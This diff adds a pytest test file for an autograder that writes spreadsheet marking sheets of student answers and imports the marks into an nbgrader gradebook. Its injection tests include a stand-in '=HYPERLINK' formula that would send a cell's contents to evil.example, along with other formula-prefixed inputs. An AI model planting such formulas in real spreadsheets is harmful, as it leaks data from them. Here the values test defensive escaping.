@@ -1,0 +1,533 @@
+"""Manual grading of one question for the whole class: sheets are written, filled in, and imported."""
+
+import csv
+import io
+import random
+import re
+from dataclasses import replace
+
+import pytest
+from command import autograder
+from graded_class import (
+    EVIL,
+    LAB,
+    by_hand,
+    came_from,
+    enrol,
+    fill,
+    results,
+    table,
+    well_formed,
+    with_policy,
+)
+from nbgrader.api import Gradebook
+from our_course import COURSE, Silent, lab
+
+from autograder.core.errors import AutograderError, UsageError
+from autograder.gradebook.classroom import Classroom
+from autograder.reports.class_page import write_report
+from autograder.reports.feedback_pages import write_feedback_pages
+from autograder.reports.manual_marks import (
+    ManualMark,
+    SheetError,
+    StudentAnswer,
+    group_answers,
+    import_sheets,
+    read_question_answers,
+    write_marking_sheet,
+)
+
+pytestmark = pytest.mark.filterwarnings("ignore")
+
+QUESTION = "explain-flat"  # three points
+ANSWERS = (
+    "The weights are nearly uniform, since unit vectors have small dot products.",
+    "The  weights are nearly uniform,\nsince unit vectors have small dot products.",  # the same but for blanks
+    "The weights are almost uniform, since unit vectors have small dot products.",  # nearly the same
+    "Softmax divides by the sum, so it has to be flat.",
+    '=HYPERLINK("http://evil.example/?"&A1, "my answer")',
+    f"It is flat because {EVIL} $x^2$.",
+)
+
+
+def answers_of_sixty_students():
+    """Return sixty answers: five texts ten times each, and ten different ones."""
+    individual_answers = ["".join(random.Random(n).choices("abcdefghij klmnop", k=80)) for n in range(10)]
+    answers = [ANSWERS[n % 5] for n in range(50)] + individual_answers[:9] + [ANSWERS[5]]
+    return {f"s{n:02}": answer for n, answer in enumerate(answers)}
+
+
+def test_the_sheet_tells_which_answers_are_similar(classroom, prepared):
+    texts = {"ada": ANSWERS[0], "bo": ANSWERS[1], "cy": ANSWERS[2], "di": ANSWERS[3]}
+    fill(
+        classroom,
+        {who: results(who, answer=answer) for who, answer in texts.items()},
+        gradebook=prepared,
+    )
+    rows, _ = read_rows(write_sheet(classroom))
+    assert {who: row["alike"] for who, row in rows.items()} == {
+        "ada": "1: first",
+        "bo": "1: the same",
+        "cy": "1: nearly the same",
+        "di": "",
+    }
+
+
+@pytest.fixture
+def room(classroom, prepared):
+    """Small class: two equal answers, a different one, and a submission without an answer."""
+    texts = {"ada": ANSWERS[0], "bo": ANSWERS[0], "cy": ANSWERS[3]}
+    submissions = {student: results(student, answer=answer) for student, answer in texts.items()}
+    submissions["di"] = replace(results("di"), untouched=(QUESTION,))
+    fill(classroom, submissions, gradebook=prepared)
+    enrol(classroom, "Name,Login\nAda Lovelace,ada\nBo Li,bo\nCy Twombly,cy\nDi Prima,di\n")
+    return classroom
+
+
+def write_sheet(room, **options):
+    """Write the question's sheet, and return its path."""
+    question = read_question_answers(room, lab(LAB), QUESTION, **options)
+    write_marking_sheet(question, workers=1)
+    return question.sheet
+
+
+def read_rows(path):
+    """Return a sheet's rows by student, and the rows above the headings."""
+    lines = list(csv.reader(io.StringIO(path.read_text("utf-8-sig"), newline="")))
+    head = next(i for i, line in enumerate(lines) if "key" in line)
+    return {line[1]: dict(zip(lines[head], line, strict=True)) for line in lines[head + 1 :]}, lines[:head]
+
+
+def fill_sheet(path, marks, target=None, delimiter=",", encoding="utf-8", end="\n", sort_rows=None):
+    """Save the sheet with marks {student: (points, comment)}, as a spreadsheet program does."""
+    rows, top = read_rows(path)
+    for student, cells in marks.items():
+        rows[student].update(zip(("points", "comment"), cells))
+    text = io.StringIO()
+    writer = csv.writer(text, delimiter=delimiter, lineterminator=end)
+    writer.writerows([*top, list(next(iter(rows.values())))])
+    lines = list(rows.values())
+    writer.writerows(list(row.values()) for row in (sort_rows(lines) if sort_rows else lines))
+    target = target or path.with_name("filled.csv")
+    target.write_bytes(text.getvalue().encode(encoding))
+    return target
+
+
+def import_into(room, *sheets, name=QUESTION):
+    return import_sheets(room, lab(LAB), name, sheets)
+
+
+def read_manual_marks(room, name=QUESTION, lab_name=LAB):
+    """Return all manual points and comments, as nbgrader's formgrader reads them."""
+    marks = {}
+    with Gradebook(room.db, COURSE.id) as book:
+        for submission in book.assignment_submissions(lab_name):
+            notebook = submission.notebooks[0]
+            grade = next(g for g in notebook.grades if g.name in (name, f"test-{name}"))
+            comment = next(c for c in notebook.comments if c.name == name)
+            marks[submission.student.id] = (grade.manual_score, comment.manual_comment)
+            assert not (grade.manual_score is not None and grade.needs_manual_grade)
+    return marks
+
+
+@pytest.mark.long
+def test_sixty_answers_graded_in_a_spreadsheet(classroom, prepared):
+    texts = answers_of_sixty_students()
+    fill(classroom, {s: results(s, answer=answer) for s, answer in texts.items()}, gradebook=prepared)
+    outcome = autograder("answers", LAB, QUESTION, "--classroom", classroom.root, here=True)
+    assert outcome.returncode == 0, outcome.stderr
+    assert "60 answers, 60 without a mark." in outcome.stderr
+    path = classroom.root / "answers" / LAB / f"{QUESTION}.csv"
+    assert outcome.stdout.split() == [str(path.with_suffix(".html")), str(path)]
+
+    rows, top = read_rows(path)
+    assert set(rows) == set(texts)
+    assert "3 points." in top[0][0] and lab(LAB).mark_schemes()[QUESTION][:40] in top[0][0] and top[1] == []
+    # Points by what was written, as a person would: the same for the same. Every second one gets a comment.
+    worth = {
+        ANSWERS[0]: "2,5",
+        ANSWERS[1]: "2,5",
+        ANSWERS[2]: "2",
+        ANSWERS[3]: "1",
+        ANSWERS[4]: "0",
+        ANSWERS[5]: "3",
+    }
+    marks_given = {
+        student: (
+            worth.get(answer, "0,75"),
+            f"Siehe Übung; {student}" if int(student[1:]) % 2 else "",
+        )
+        for student, answer in texts.items()
+    }
+    sheet = fill_sheet(
+        path,
+        marks_given,
+        delimiter=";",
+        encoding="utf-8-sig",
+        end="\r\n",
+        sort_rows=lambda rows: rows[::-1],
+    )
+    import_outcome = autograder(
+        "answers", LAB, QUESTION, "--take", sheet, "--classroom", classroom.root, here=True
+    )
+    assert (import_outcome.returncode, import_outcome.stderr) == (0, "")
+    assert (
+        import_outcome.stdout == "60 marks and 30 comments taken in; 0 answers still await manual grading.\n"
+    )
+
+    expected = {
+        student: (float(points.replace(",", ".")), comment or None)
+        for student, (points, comment) in marks_given.items()
+    }
+    assert read_manual_marks(classroom) == expected
+    pages = write_feedback_pages(classroom, labs=[lab(LAB)], progress=Silent())
+    assert (pages.written_count, pages.failures) == (60, [])
+    write_report(classroom)
+    marks = {row["student_id"]: row for row in table((classroom.report / "grades.csv").read_text("utf-8"))}
+    for student, (points, comment) in expected.items():
+        page = (classroom.feedback / student / LAB / f"{LAB}.html").read_text("utf-8")
+        line = page[page.index('href="#at-explain-flat"') :].split("</li>")[0]
+        assert "read by a person" in line and f"{points:g} of 3</span>" in line
+        assert (f"Siehe Übung; {student}</blockquote>" in line) == bool(comment)
+        # all right in what is judged, 10 points, and what the person gave
+        assert (marks[student]["score"], marks[student]["state"]) == (str(10 + points), "complete")
+
+
+def test_importing_a_sheet_again_changes_nothing_and_a_new_sheet_shows_the_marks(room):
+    path = fill_sheet(write_sheet(room), {"Ada Lovelace": ("2", "Well said."), "Cy Twombly": ("0", "")})
+    assert import_into(room, path) == "2 marks and 1 comment taken in; 1 answer still awaits manual grading."
+    assert import_into(room, path) == "0 marks and 0 comments taken in; 1 answer still awaits manual grading."
+    rows, _ = read_rows(write_sheet(room))
+    assert (rows["Ada Lovelace"]["points"], rows["Ada Lovelace"]["comment"]) == ("2", "Well said.")
+    assert (rows["Cy Twombly"]["points"], rows["Bo Li"]["points"]) == ("0", "")
+    page = (path.parent / f"{QUESTION}.html").read_text("utf-8")
+    assert "1 without a mark" in page and "2 of 3" in page and "Well said." in page
+
+
+def test_an_empty_cell_leaves_what_is_there_and_a_comment_needs_no_points(room):
+    by_hand(room, "ada", 1.5, "Half.")
+    path = fill_sheet(write_sheet(room), {"Ada Lovelace": ("", "Better."), "Bo Li": ("", "Where?")})
+    assert import_into(room, path) == "0 marks and 2 comments taken in; 2 answers still await manual grading."
+    assert read_manual_marks(room)["ada"] == (1.5, "Better.") and read_manual_marks(room)["bo"] == (
+        None,
+        "Where?",
+    )
+
+
+@pytest.mark.parametrize(
+    ("delimiter", "encoding", "end", "points"),
+    [
+        (",", "utf-8", "\n", "2.5"),
+        (";", "utf-8-sig", "\r\n", "2,5"),
+        ("\t", "utf-16", "\r\n", "2,50"),
+        (";", "cp1252", "\r", " 2.5 "),
+    ],
+)
+def test_a_sheet_may_be_saved_by_different_spreadsheet_programs(room, delimiter, encoding, end, points):
+    marks_given = {"Bo Li": (points, "Schön; oder, naïve\nzweite Zeile")}
+    path = fill_sheet(write_sheet(room), marks_given, delimiter=delimiter, encoding=encoding, end=end)
+    text = path.read_bytes().decode(encoding)
+    path.write_bytes(f"sep={delimiter}{end}{text}".encode(encoding))  # as Excel likes it
+    assert import_into(room, path).startswith("1 mark and 1 comment taken in")
+    assert read_manual_marks(room)["bo"] == (2.5, "Schön; oder, naïve\nzweite Zeile")
+
+
+def test_rows_may_be_missing_and_in_any_order_with_the_headings_among_them(room):
+    path = fill_sheet(write_sheet(room), {"Bo Li": ("1", ""), "Cy Twombly": ("2", "")})
+    lines = [line for line in csv.reader(io.StringIO(path.read_text("utf-8"), newline="")) if line]
+    other_lines = [line for line in lines if "Ada" not in "".join(line)]
+    text = io.StringIO()
+    csv.writer(text).writerows(sorted(other_lines, key=lambda line: line[-1]))
+    path.write_text(text.getvalue(), "utf-8")
+    assert import_into(room, path) == "2 marks and 0 comments taken in; 1 answer still awaits manual grading."
+
+
+def submit_another_answer(room):
+    """Replace Bo's answer after the sheet was written."""
+    fill(room, {"bo": results("bo", answer="A new answer.")}, gradebook=room.root / "gradebook.db")
+
+
+INVALID_ROWS = {
+    "over": (("3.5", ""), "filled.csv, row {}: the points are 3.5, but the question is worth 3."),
+    "below": (
+        ("-1", ""),
+        "filled.csv, row {}: the points are '-1', which is no number such as 2 or 2.5.",
+    ),
+    "a date": (("01. Feb", ""), "the points are '01. Feb', which is no number"),
+    "words": (("two", ""), "the points are 'two', which is no number"),
+    "not a number": (("nan", ""), "the points are 'nan', which is no number"),
+    "a power": (("1e0", ""), "the points are '1e0', which is no number"),
+    "long": (("1", "x" * 10_001), "the comment has 10,001 characters; at most 10,000 can be kept."),
+}
+
+
+@pytest.mark.parametrize("name", INVALID_ROWS)
+def test_an_invalid_row_is_refused(room, name):
+    cells, sentence = INVALID_ROWS[name]
+    path = fill_sheet(write_sheet(room), {"Ada Lovelace": ("1", ""), "Bo Li": cells})
+    number = 1 + next(
+        i for i, line in enumerate(csv.reader(io.StringIO(path.read_text("utf-8")))) if "Bo Li" in line
+    )
+    with pytest.raises(SheetError) as error:
+        import_into(room, path)
+    assert str(error.value).startswith("Nothing was taken in.\n")
+    assert sentence.format(number) in str(error.value)
+    assert read_manual_marks(room) == dict.fromkeys(("ada", "bo", "cy", "di"), (None, None))
+
+
+def test_all_invalid_rows_are_reported_at_once(room):
+    path = fill_sheet(write_sheet(room), dict.fromkeys(("Ada Lovelace", "Bo Li", "Cy Twombly"), ("9", "")))
+    with pytest.raises(SheetError) as error:
+        import_into(room, path)
+    assert str(error.value).count("the points are 9, but the question is worth 3.") == 3
+
+
+def test_unknown_keys_are_refused(room):
+    path = fill_sheet(write_sheet(room), {"Ada Lovelace": ("1", "")})
+    text = path.read_text("utf-8")
+    for key, sentence in (
+        ("", "it has points or a comment, but no key, so it is nobody's."),
+        (
+            "abcdefghij-abcdefghij-abcdefghij",
+            f"its key belongs to no answer to {QUESTION} of {LAB}",
+        ),
+    ):
+        path.write_text(re.sub(r"(Ada Lovelace.*),[a-p-]+$", rf"\1,{key}", text, flags=re.MULTILINE), "utf-8")
+        with pytest.raises(SheetError, match=re.escape(sentence)):
+            import_into(room, path)
+
+
+def test_the_sheet_of_another_question_gives_no_marks(room):
+    path = write_sheet(room)
+    fill_sheet(path, {"Ada Lovelace": ("1", "")}, target=path)
+    with pytest.raises(SheetError, match="its key belongs to no answer to softmax of qkv-attention"):
+        import_into(room, path, name="softmax")
+
+
+def test_columns_that_were_sorted_separately_are_refused(room):
+    path = fill_sheet(write_sheet(room), {"Ada Lovelace": ("1", "")})
+    text = path.read_text("utf-8").replace("Ada Lovelace", "Bo Li")
+    path.write_text(text, "utf-8")
+    with pytest.raises(
+        SheetError,
+        match="the key is Ada Lovelace's, but the row says 'Bo Li'; were some columns sorted",
+    ):
+        import_into(room, path)
+
+
+def test_a_mark_belongs_to_the_answer_that_was_read(room):
+    path = fill_sheet(write_sheet(room), {"Ada Lovelace": ("1", ""), "Bo Li": ("2", "")})
+    submit_another_answer(room)
+    with pytest.raises(SheetError, match="Bo Li has submitted another answer since this sheet was written"):
+        import_into(room, path)
+    assert read_manual_marks(room)["ada"] == (None, None)
+    new_sheet = fill_sheet(write_sheet(room), {"Ada Lovelace": ("1", ""), "Bo Li": ("2", "")})
+    assert import_into(room, new_sheet).startswith("2 marks")
+
+
+def test_two_people_grade_different_rows(room):
+    path = write_sheet(room)
+    first_sheet = fill_sheet(path, {"Ada Lovelace": ("1", "One.")}, target=path.with_name("one.csv"))
+    second_sheet = fill_sheet(path, {"Bo Li": ("2", "Two.")}, target=path.with_name("two.csv"))
+    assert (
+        import_into(room, first_sheet, second_sheet)
+        == "2 marks and 2 comments taken in; 1 answer still awaits manual grading."
+    )
+    third_sheet = fill_sheet(path, {"Cy Twombly": ("3", "")}, target=path.with_name("late.csv"))
+    assert import_into(room, third_sheet).startswith("1 mark")  # by another hour: what it left empty stays
+    assert read_manual_marks(room) == {
+        "ada": (1.0, "One."),
+        "bo": (2.0, "Two."),
+        "cy": (3.0, None),
+        "di": (None, None),
+    }
+
+
+def test_two_people_grade_the_same_answer(room):
+    path = write_sheet(room)
+    first_sheet = fill_sheet(
+        path, {"Ada Lovelace": ("1", ""), "Bo Li": ("2", "")}, target=path.with_name("one.csv")
+    )
+    second_sheet = fill_sheet(
+        path, {"Ada Lovelace": ("2", ""), "Bo Li": ("2", "")}, target=path.with_name("two.csv")
+    )
+    with pytest.raises(
+        SheetError, match=r"two.csv, row \d: Ada Lovelace was given 1 points in one.csv, row \d\."
+    ):
+        import_into(room, first_sheet, second_sheet)
+    assert read_manual_marks(room)["bo"] == (None, None)
+    import_into(room, first_sheet)
+    with pytest.raises(
+        SheetError,
+        match="Ada Lovelace was given 1 points in the gradebook since this sheet was written",
+    ):
+        import_into(room, second_sheet)
+
+
+def test_the_formgrader_and_the_sheet_agree(room):
+    path = write_sheet(room)
+    by_hand(room, "ada", 2, "In the formgrader.")
+    with pytest.raises(SheetError, match="Ada Lovelace was given 2 points and other words in the gradebook"):
+        import_into(room, fill_sheet(path, {"Ada Lovelace": ("1", "")}))
+    assert import_into(room, fill_sheet(path, {"Bo Li": ("1", "")})).startswith("1 mark")
+    assert read_manual_marks(room)["ada"] == (2.0, "In the formgrader.")
+    assert read_rows(write_sheet(room))[0]["Ada Lovelace"]["points"] == "2"
+
+
+def test_no_cell_is_a_formula_and_no_comment_gains_one(room):
+    evil = {"ada": ANSWERS[4], "bo": "a line\n@SUM(1)\n+1;=2", "cy": EVIL}
+    fill(
+        room,
+        {s: results(s, answer=a) for s, a in evil.items()},
+        gradebook=room.root / "gradebook.db",
+    )
+    enrol(room, "Name,Login\n=1+1,ada\nBo Li,bo\nCy Twombly,cy\nDi Prima,di\n")
+    by_hand(room, "bo", 1, "=2+2\n- and a list")
+    path = write_sheet(room)
+    for line in csv.reader(io.StringIO(path.read_text("utf-8-sig"), newline="")):
+        for cell in line:
+            for part in re.split(r"[\n;]", cell):
+                assert not re.match(r"\s*[=+\-@]", part), part
+    rows, _ = read_rows(path)
+    assert rows["'=1+1"]["answer"].startswith("'=HYPERLINK")
+    # A comment that was not touched stays as it was, to the line's end; a new one loses only our own quote.
+    import_into(room, fill_sheet(path, {"'=1+1": ("1", "'=3+3"), "Bo Li": ("2", rows["Bo Li"]["comment"])}))
+    assert read_manual_marks(room)["bo"] == (2.0, "=2+2\n- and a list")
+    assert read_manual_marks(room)["ada"] == (1.0, "=3+3")
+    page = path.with_suffix(".html").read_text("utf-8")
+    assert "<script" not in page
+    well_formed(page)
+
+
+def test_similar_answers_stand_together():
+    texts = {
+        "a": ANSWERS[3],
+        "b": ANSWERS[0],
+        "c": ANSWERS[2],
+        "d": ANSWERS[1],
+        "e": "w - x",
+        "f": "w + x",
+        "g": "x",
+    }
+    groups = list(
+        group_answers([StudentAnswer(s, s, ManualMark(), s, source=text) for s, text in texts.items()])
+    )
+    assert [
+        (group.number, [[a.student for _, a in equal_answers] for equal_answers in group.wordings])
+        for group in groups
+    ] == [
+        (1, [["b", "d"], ["c"]]),  # the same but for blanks; and nearly
+        (2, [["f"], ["e"]]),  # a sign makes another answer: near, but never the same
+        (0, [["a"]]),
+        (0, [["g"]]),
+    ]
+    assert [n for group in groups for equal_answers in group.wordings for n, _ in equal_answers] == [
+        1,
+        2,
+        3,
+        4,
+        5,
+        6,
+        7,
+    ]
+
+
+def test_pseudonyms(room):
+    path = write_sheet(room, anonymous=True)
+    page = path.with_suffix(".html").read_text("utf-8")
+    sheet = path.read_text("utf-8-sig")
+    for name in ("Ada", "Lovelace", "ada", "Bo Li"):
+        assert not re.search(rf"\b{name}\b", page) and not re.search(rf"\b{name}\b", sheet)
+    secret = dict(
+        line.split(",")[::-1]
+        for line in (room.root / "pseudonyms.csv").read_text().replace("'", "").split()[1:]
+    )
+    assert import_into(room, fill_sheet(path, {secret["bo"]: ("2", "")})).startswith("1 mark")
+    assert read_manual_marks(room)["bo"] == (2.0, None)
+    student_key = read_rows(path)[0][secret["bo"]]["key"].split("-")[0]
+    assert student_key in student_keys(room)
+    (room.root / "secret").write_text("another")  # without the secret of the class, a key tells nobody's name
+    assert student_key not in student_keys(Classroom(room.root, COURSE))
+
+
+def student_keys(room):
+    """Return the parts of the keys that identify the students."""
+    question = read_question_answers(room, lab(LAB), QUESTION)
+    return {question.answer_key(answer).split("-")[0] for answer in question.answers}
+
+
+def test_a_sheet_with_marks_that_were_not_imported_is_kept(room):
+    path = write_sheet(room)
+    write_sheet(room)
+    assert [p.name for p in sorted(path.parent.glob("*.csv"))] == [f"{QUESTION}.csv"]
+    fill_sheet(path, {"Ada Lovelace": ("1", "")}, target=path)
+    outcome = autograder("answers", LAB, QUESTION, "--classroom", room.root, here=True)
+    old_sheet = path.with_name(f"{QUESTION}-earlier-1.csv")
+    assert (
+        f"The sheet that was there has marks that are not taken in; it is {old_sheet} now." in outcome.stderr
+    )
+    assert read_rows(path)[0]["Ada Lovelace"]["points"] == ""
+    assert import_into(room, old_sheet).startswith("1 mark")
+
+
+def test_an_exercise_can_be_graded_manually(room):
+    """Manual grading of an exercise, such as for a regrade request."""
+    question = read_question_answers(room, lab(LAB), "softmax")
+    write_marking_sheet(question, workers=1)
+    rows, _ = read_rows(question.sheet)
+    assert "def softmax" in rows["Ada Lovelace"]["answer"] or "raise" in rows["Ada Lovelace"]["answer"]
+    sheet = fill_sheet(question.sheet, {"Ada Lovelace": ("1.5", "Half of it.")})
+    assert import_into(room, sheet, name="softmax").startswith("1 mark and 1 comment taken in")
+    assert read_manual_marks(room, "softmax")["ada"] == (1.5, "Half of it.")
+    assert "(pass)" in question.page.read_text("utf-8")
+
+
+def test_withdrawn_students_and_blank_answers_have_no_row(room):
+    enrol(room, "Name,Login,Status\nAda,ada,\nBo,bo,withdrawn\nCy,cy,\nDi,di,\n")
+    question = read_question_answers(room, lab(LAB), QUESTION)
+    assert [answer.student for answer in question.answers] == [
+        "ada",
+        "cy",
+    ] and question.blank_count == 1
+
+
+def test_a_group_is_graded_once(room):
+    for student in ("ada", "bo"):
+        came_from(room, student, "Moodle", members=("ada", "bo"), sha256="x")
+    assert import_into(room, fill_sheet(write_sheet(room), {"Bo Li": ("2", "Both.")})) == (
+        "1 mark and 1 comment taken in; 1 answer still awaits manual grading."
+    )
+    assert read_manual_marks(room)["ada"] == (2.0, "Both.")
+
+
+def test_files_that_are_no_sheets(room, tmp_path):
+    for data, sentence in (
+        (b"PK\x03\x04...", "is a spreadsheet program's own file. Save it as CSV"),
+        (b"", "has no row with the headings"),
+        (b"a,b\n1,2\n", "has no row with the headings"),
+        (b"key,points,points\nx,1,2\n", "has the column 'points' twice"),
+        (b"\x00\xff" * 1000, "has no row with the headings"),
+    ):
+        (tmp_path / "x.csv").write_bytes(data)
+        with pytest.raises(SheetError, match=re.escape(sentence)):
+            import_into(room, tmp_path / "x.csv")
+    with pytest.raises(SheetError, match="cannot be read: No such file"):
+        import_into(room, tmp_path / "nowhere.csv")
+    with pytest.raises(SheetError, match="is not an ordinary file"):
+        import_into(room, tmp_path)
+
+
+def test_questions_that_cannot_be_graded(room, classroom):
+    with pytest.raises(
+        UsageError,
+        match="has no question 'nothing'; its manually graded questions are explain-flat, and its exercises are",
+    ):
+        read_question_answers(room, lab(LAB), "nothing")
+    with_policy(room, dropped=[QUESTION])
+    with pytest.raises(AutograderError, match="explain-flat is dropped from qkv-attention"):
+        read_question_answers(room, lab(LAB), QUESTION)
+
+
+def test_no_gradebook(classroom):
+    with pytest.raises(AutograderError, match="There is no gradebook yet"):
+        read_question_answers(classroom, lab(LAB), QUESTION)
